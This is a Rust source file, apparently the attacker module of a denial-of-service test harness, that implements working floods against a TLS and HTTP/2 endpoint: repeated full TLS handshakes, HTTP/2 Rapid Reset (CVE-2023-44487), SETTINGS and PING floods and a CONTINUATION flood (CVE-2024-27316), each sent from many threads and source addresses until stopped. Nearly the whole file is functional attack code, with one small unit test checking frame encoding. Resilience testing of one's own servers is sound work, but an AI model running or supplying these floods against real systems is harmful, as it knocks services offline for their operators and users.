//! Attacks behind a handshake of TLS: the handshake itself, and floods of HTTP/2 frames (RFC 9113).

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddrV4, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use rustix::net::{AddressFamily, SocketFlags, SocketType, bind, connect, socket_with, sockopt};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, ClientConnection, RootCertStore, StreamOwned};

use super::attacker::{AttackerArgs, Did, pause, source, wait_for_the_end};
use super::script::Kind;
use crate::failure::Failure;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `CANCEL` (RFC 9113, 7).
const CANCEL: &[u8] = &[0, 0, 0, 8];
/// Frames, or pairs of them, that are sent at once.
const AT_ONCE: u32 = 64;
/// Fields of a frame of a head without an end.
const FIELDS: usize = 100;
/// How long the edge may take for a handshake, or for reading on.
const STALL_MAX: Duration = Duration::from_secs(5);
/// How long one look for answers waits.
const GLANCE: Duration = Duration::from_millis(1);
const READ_BYTES: usize = 16 * 1024;

/// What all threads did.
#[derive(Default)]
struct Sum {
    opened: AtomicU64,
    not_opened: AtomicU64,
    ended: AtomicU64,
    sent: AtomicU64,
    sent_bytes: AtomicU64,
    read_bytes: AtomicU64,
    tried: AtomicU64,
}

type Tls = StreamOwned<ClientConnection, TcpStream>;

/// Attacks with a thread for each connection, until standard input ends; the threads end with the
/// process.
pub(super) fn attack(args: &AttackerArgs) -> Result<Did, Failure> {
    let config = Arc::new(client(args)?);
    let sum = Arc::new(Sum::default());
    for _ in 0..args.connections {
        let (args, config, sum) = (args.clone(), Arc::clone(&config), Arc::clone(&sum));
        std::thread::spawn(move || {
            loop {
                let from = sum.tried.fetch_add(1, Ordering::Relaxed);
                match open(&args, &config, from) {
                    Ok(stream) => {
                        sum.opened.fetch_add(1, Ordering::Relaxed);
                        flood(&args, stream, &sum);
                        sum.ended.fetch_add(1, Ordering::Relaxed);
                    }
                    Err(_) => {
                        sum.not_opened.fetch_add(1, Ordering::Relaxed);
                    }
                }
                pause(args.rate, args.connections);
            }
        });
    }
    wait_for_the_end();
    let read = |count: &AtomicU64| count.load(Ordering::Relaxed);
    Ok(Did {
        opened: read(&sum.opened),
        not_opened: read(&sum.not_opened),
        ended: read(&sum.ended),
        sent: read(&sum.sent),
        sent_bytes: read(&sum.sent_bytes),
        read_bytes: read(&sum.read_bytes),
    })
}

fn client(args: &AttackerArgs) -> Result<ClientConfig, Failure> {
    let fail = |error: &dyn std::fmt::Display| {
        Failure::new(format!("{}: {error}", args.certificate.display()))
    };
    let mut roots = RootCertStore::empty();
    let certificate =
        CertificateDer::from_pem_file(&args.certificate).map_err(|error| fail(&error))?;
    roots.add(certificate).map_err(|error| fail(&error))?;
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(|error| fail(&error))?
        .with_root_certificates(roots)
        .with_no_client_auth();
    // Each handshake a whole one.
    config.resumption = rustls::client::Resumption::disabled();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(config)
}

fn open(args: &AttackerArgs, config: &Arc<ClientConfig>, from: u64) -> io::Result<Tls> {
    let socket = socket_with(AddressFamily::INET, SocketType::STREAM, SocketFlags::CLOEXEC, None)?;
    for way in [sockopt::Timeout::Send, sockopt::Timeout::Recv] {
        sockopt::set_socket_timeout(&socket, way, Some(STALL_MAX))?;
    }
    bind(&socket, &SocketAddrV4::new(source(args.of_many, from), 0))?;
    connect(&socket, &args.target)?;
    let name = ServerName::IpAddress(args.target.ip().into());
    let connection = ClientConnection::new(Arc::clone(config), name).map_err(io::Error::other)?;
    let mut stream = StreamOwned::new(connection, TcpStream::from(socket));
    while stream.conn.is_handshaking() {
        stream.conn.complete_io(&mut stream.sock)?;
    }
    Ok(stream)
}

/// Sends until the edge takes no more.
fn flood(args: &AttackerArgs, mut stream: Tls, sum: &Sum) {
    if args.kind == Kind::TlsHandshakes {
        sum.sent.fetch_add(1, Ordering::Relaxed);
        return;
    }
    if stream.sock.set_read_timeout(Some(GLANCE)).is_err() {
        return;
    }
    let mut flood = Flood { kind: args.kind, path: format!("/{}", args.code), stream: 1 };
    let host = args.target.to_string();
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    flood.begin(&mut bytes, &host);
    let mut answers = vec![0; READ_BYTES];
    while stream.write_all(&bytes).is_ok() {
        sum.sent_bytes.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        match stream.read(&mut answers) {
            Ok(0) => return,
            Ok(len) => {
                sum.read_bytes.fetch_add(len as u64, Ordering::Relaxed);
            }
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
            Err(_) => return,
        }
        bytes.clear();
        for _ in 0..AT_ONCE {
            flood.next(&mut bytes, &host);
        }
        sum.sent.fetch_add(u64::from(AT_ONCE), Ordering::Relaxed);
    }
}

/// What a connection sends.
struct Flood {
    kind: Kind,
    path: String,
    stream: u32,
}

impl Flood {
    fn begin(&mut self, bytes: &mut Vec<u8>, host: &str) {
        if self.kind == Kind::H2Continuation {
            bytes.extend(frame(HEADERS, END_STREAM, self.stream, &fields(&self.path, host)));
        }
    }

    fn next(&mut self, bytes: &mut Vec<u8>, host: &str) {
        match self.kind {
            // Answered and reset at once (CVE-2023-44487).
            Kind::H2RapidReset => {
                let head = fields(&self.path, host);
                bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, self.stream, &head));
                bytes.extend(frame(RST_STREAM, 0, self.stream, CANCEL));
                self.stream = (self.stream + 2) & 0x7fff_ffff;
            }
            // Each asks for an answer (CVE-2019-9515, CVE-2019-9512).
            Kind::H2Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255])),
            Kind::H2Ping => bytes.extend(frame(PING, 0, 0, &[7; 8])),
            // A head without an end (CVE-2024-27316).
            _ => {
                let field = [&[0, 1, b'a', 100][..], &[b'b'; 100]].concat().repeat(FIELDS);
                bytes.extend(frame(CONTINUATION, 0, self.stream, &field));
            }
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// GET of a path over https, in literals (RFC 7541, 6.2.2).
fn fields(path: &str, authority: &str) -> Vec<u8> {
    let text = |text: &str| {
        let len = u8::try_from(text.len()).unwrap_or_default();
        [&[len], text.as_bytes()].concat()
    };
    [&[0x82, 0x87, 0x04][..], &text(path), &[0x01], &text(authority)].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_those_of_the_standard() {
        assert_eq!(frame(PING, 0, 0, &[7; 8])[..9], [0, 0, 8, 6, 0, 0, 0, 0, 0]);
        let mut flood = Flood { kind: Kind::H2RapidReset, path: "/abc".to_owned(), stream: 1 };
        let mut bytes = Vec::new();
        flood.next(&mut bytes, "a.example");
        let head = 3 + 5 + 1 + 10;
        assert_eq!(usize::from(bytes[2]), head);
        assert_eq!(bytes[9 + head..], [0, 0, 4, 3, 0, 0, 0, 0, 1, 0, 0, 0, 8]);
        assert_eq!(flood.stream, 3);
    }
}
